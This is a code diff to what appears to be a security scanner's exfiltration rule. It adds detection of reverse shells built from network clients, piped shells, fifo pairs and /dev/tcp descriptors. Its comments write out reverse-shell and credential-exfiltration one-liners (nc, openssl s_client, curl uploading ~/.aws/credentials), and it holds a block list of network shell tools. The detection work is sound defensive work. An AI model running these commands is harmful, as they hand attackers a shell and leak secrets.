@@ -2,12 +2,12 @@
 // (curl -d @~/.aws/credentials, tar ~/.ssh | curl -T -, cat key | nc), copying secrets to
 // remote hosts (scp, rsync, cloud cp), reverse shells (/dev/tcp, nc -e), and DNS tricks that
 // smuggle command output in a hostname. Posting ordinary data to unknown hosts is a warning.
-import type { SimpleCommand, Word } from '../shell/types.js';
+import type { Script, SimpleCommand, Word } from '../shell/types.js';
 import type { Severity } from '../types.js';
 import type { RuleContext } from './context.js';
 import { credentialRisk } from './credential-paths.js';
 import { credentialReadBy } from './credentials.js';
-import { HTTPIE_CLIENTS, hasArgCI, hasLong, httpieHost, isLocalHost, optionValues, positionals, remoteSpecHost, upstream, urlHosts } from './facts.js';
+import { executesStdin, hasArgCI, hasLong, HTTPIE_CLIENTS, httpieHost, isLocalHost, optionValues, POWERSHELL, positionals, remoteSpecHost, SHELLS, upstream, urlHosts } from './facts.js';
 
 const CATEGORY = 'exfiltration';
 // Anonymous paste, file-drop and request-capture services: nothing legitimate needs an agent to upload there.
@@ -80,9 +80,75 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
   emit(ctx, known ? 'low' : 'medium', 'http_upload', `Sends local data to ${known ? 'the service' : 'the unrecognised external endpoint'} ${label}.`, external);
 }
 
+// Clients that carry a byte stream to a remote host: plain TCP, TLS (`openssl s_client`,
+// `gnutls-cli`, `ncat --ssl`) and the encrypting netcats.
+const STREAM_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'cryptcat', 'pwncat', 'sbd', 'gnutls-cli', 'sclient']);
+
+function streamClient(cmd: SimpleCommand): boolean {
+  return STREAM_CLIENTS.has(cmd.name) || (cmd.name === 'openssl' && cmd.args[0] === 's_client');
+}
+
+/**
+ * A shell wired to a network client through a pipeline (`sh -i 2>&1 | openssl s_client -connect
+ * h:443 > /tmp/f` with the fifo feeding the shell, `nc h 443 | sh | nc h 444`): whoever is at the
+ * other end types into the shell and reads its output, a reverse shell whatever the transport.
+ */
+function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
+  const stages = cmd.pipeline.stages;
+  if (stages.length < 2) return undefined;
+  for (let i = 0; i < stages.length; i++) {
+    if (i === cmd.stage) continue;
+    for (const other of stages[i]) if ((SHELLS.has(other.name) || POWERSHELL.has(other.name)) && (executesStdin(other) || other.args.includes('-i'))) return other;
+  }
+  return undefined;
+}
+
+function runsInput(cmd: SimpleCommand): boolean {
+  return (SHELLS.has(cmd.name) || POWERSHELL.has(cmd.name)) && (executesStdin(cmd) || cmd.args.includes('-i'));
+}
+
+/**
+ * A shell wired to the network outside one pipeline: through files both ends open (the fifo
+ * pair of `mkfifo i o; sh -i < i > o & nc h 443 < o > i`), or through a descriptor that `exec`
+ * opened on `/dev/tcp` (`exec 3<>/dev/tcp/h/443; sh <&3 >&3`). Script-wide: the ends are
+ * separate commands.
+ */
+export function inspectWiredShells(script: Script, ctx: RuleContext): void {
+  let shellFiles: Set<string> | undefined;
+  let shellFd = false;
+  let socketFd: string | undefined;
+  const clientFiles: { name: string; files: string[] }[] = [];
+  for (const c of script.commands) {
+    if (c.redirects.length === 0) continue;
+    if (c.name === 'exec') {
+      const tcp = c.redirects.find((r) => /^\/dev\/(?:tcp|udp)\/[^/]+\//.test(r.target.text));
+      if (tcp) socketFd = tcp.target.text.split('/')[3];
+    } else if (runsInput(c)) {
+      for (const r of c.redirects) {
+        const t = r.target.text;
+        if (r.op === '<&' || r.op === '>&') {
+          if (/^(?:[3-9]|\d{2,})$/.test(t)) shellFd = true;
+        } else if (t !== '/dev/null' && !t.startsWith('/dev/std')) (shellFiles ??= new Set()).add(t);
+      }
+    } else if (streamClient(c)) {
+      clientFiles.push({ name: c.name === 'openssl' ? 'openssl s_client' : c.name, files: c.redirects.filter((r) => !r.op.includes('&')).map((r) => r.target.text) });
+    }
+  }
+  if (socketFd && shellFd) return emit(ctx, 'critical', 'reverse_shell', `A shell reads and writes a descriptor opened on /dev/tcp to ${socketFd} (a reverse shell).`, [socketFd]);
+  if (!shellFiles) return;
+  for (const c of clientFiles) {
+    const shared = c.files.find((f) => shellFiles!.has(f));
+    if (shared) return emit(ctx, 'critical', 'reverse_shell', `${c.name} and a shell share ${shared}, so the network end types into the shell and reads its output (a reverse shell).`);
+  }
+}
+
 export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext): void {
   const args = cmd.args;
   const name = cmd.name;
+  if (streamClient(cmd)) {
+    const shell = pipedShell(cmd);
+    if (shell) return emit(ctx, 'critical', 'reverse_shell', `${name === 'openssl' ? 'openssl s_client' : name} carries a ${shell.name} shell's input and output over the network (a reverse shell).`);
+  }
   for (const r of cmd.redirects) {
     const m = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(r.target.text);
     if (!m) continue;
